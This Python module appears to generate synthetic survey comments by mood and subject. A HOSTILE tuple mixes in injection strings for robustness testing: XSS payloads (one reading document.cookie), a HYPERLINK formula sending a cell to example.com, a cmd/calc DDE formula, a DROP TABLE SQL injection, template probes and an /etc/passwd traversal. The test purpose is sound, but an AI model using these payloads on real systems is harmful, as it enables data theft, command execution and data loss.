"""What people write into surveys, and what some write who mean no good."""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING, Any

import numpy as np

from .columns import pick

if TYPE_CHECKING:
    from .arrays import Floats, Ints
    from .scenario import Scenario

__all__ = ["HOSTILE", "MOODS", "draw_comments"]

_SUBJECTS = ("checkout", "delivery", "search", "payment", "app", "voucher", "returns", "support chat")
_LOW = (
    "The {} does not work for me.",
    "Gave up at the {} after three attempts!",
    "{} is slow, confusing and \"broken\"",
    "Why is the {} so complicated?? I only wanted to buy socks",
    "{}: never again.\nAnd nobody answers.",
    "Schlecht: {} l\u00e4dt nicht, Geld trotzdem abgebucht",
)  # fmt: skip
_MIDDLE = (
    "{} is ok.",
    "It works, but the {} could be faster",
    "Fine; the {}, however, took a while",
    "Correct, mais {} est un peu lent",
    "No complaints. {} as expected.",
)
_HIGH = (
    "Love the new {}!",
    "Fast, \"easy\" {}",
    "{} was a breeze, thank you \U0001f60a",
    "Great {}, will come back",
    "S\u00fcper, {} merge perfect \u0219i rapid",
    "\u6700\u9ad8\u3067\u3059 ({})",
)  # fmt: skip
#: The texts by mood: of those who are not content, of those in between, and of those who are.
MOODS = tuple(
    tuple(text.format(subject) for text, subject in product(texts, _SUBJECTS))
    for texts in (_LOW, _MIDDLE, _HIGH)
)
#: Each breaks some careless reader or page: markup, formulas, templates, quotes, ends of lines, directions.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(document.cookie)</script>",
    "\"><svg onload=alert(1)>",
    "=HYPERLINK(\"http://example.com/?x=\"&A1,\"refund\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "'; DROP TABLE answers; --",
    "{{ 7 * 7 }} ${7*7} <%= 7*7 %>",
    "[refund](javascript:alert(1)) | | `code` **bold** <!channel>",
    "one,\"two\"\r\nthree;four\tfive",
    "\u202ereversed\u202c and a zero\u200bwidth",
    "\ufeffNULL",
    "NA",
    "%s%s%n %00 ../../etc/passwd",
    "Z\u0351\u036b\u0343a\u0363\u0366l\u0365\u0363g\u0321\u0347o",
    "a" * 2000,
)  # fmt: skip


def draw_comments(scenario: Scenario, mood: Ints, mentions: Floats) -> Any:
    """A text or null for each answer; ``mood`` is that of the answer, and negative where there is none.

    ``mentions`` is the factor of the odds that the text is about the first subject.
    """
    how, rng = scenario.surveys, scenario.stream("comments")
    texts = [text for of in MOODS for text in of] + list(HOSTILE)
    sizes = np.array([len(of) for of in MOODS])
    begins = np.cumsum(sizes) - sizes
    written = (mood >= 0) & (rng.random(len(mood)) < how.comments)
    chosen = begins[mood] + (rng.random(len(mood)) * sizes[mood]).astype(np.int64)
    chosen = _with_mentions(scenario, chosen, mentions)
    nasty = rng.random(len(mood)) < how.hostile
    evil = sizes.sum() + rng.integers(0, len(HOSTILE), size=len(mood))
    return pick(texts, np.where(written, np.where(nasty, evil, chosen), -1))


def _with_mentions(scenario: Scenario, chosen: Ints, mentions: Floats) -> Ints:
    """Move texts to the first subject, or away from it; where the factor is 1, none."""
    n = len(_SUBJECTS)
    rng = scenario.stream("subjects")
    drawn, other = rng.random(len(chosen)), 1 + (rng.random(len(chosen)) * (n - 1)).astype(np.int64)
    share = mentions / (n - 1 + mentions)
    first = chosen % n == 0
    to_first = ~first & (drawn < (share - 1 / n) / (1 - 1 / n))
    away = first & (drawn < 1 - n * share)
    moved: Ints = chosen - chosen % n * to_first + other * away
    return moved
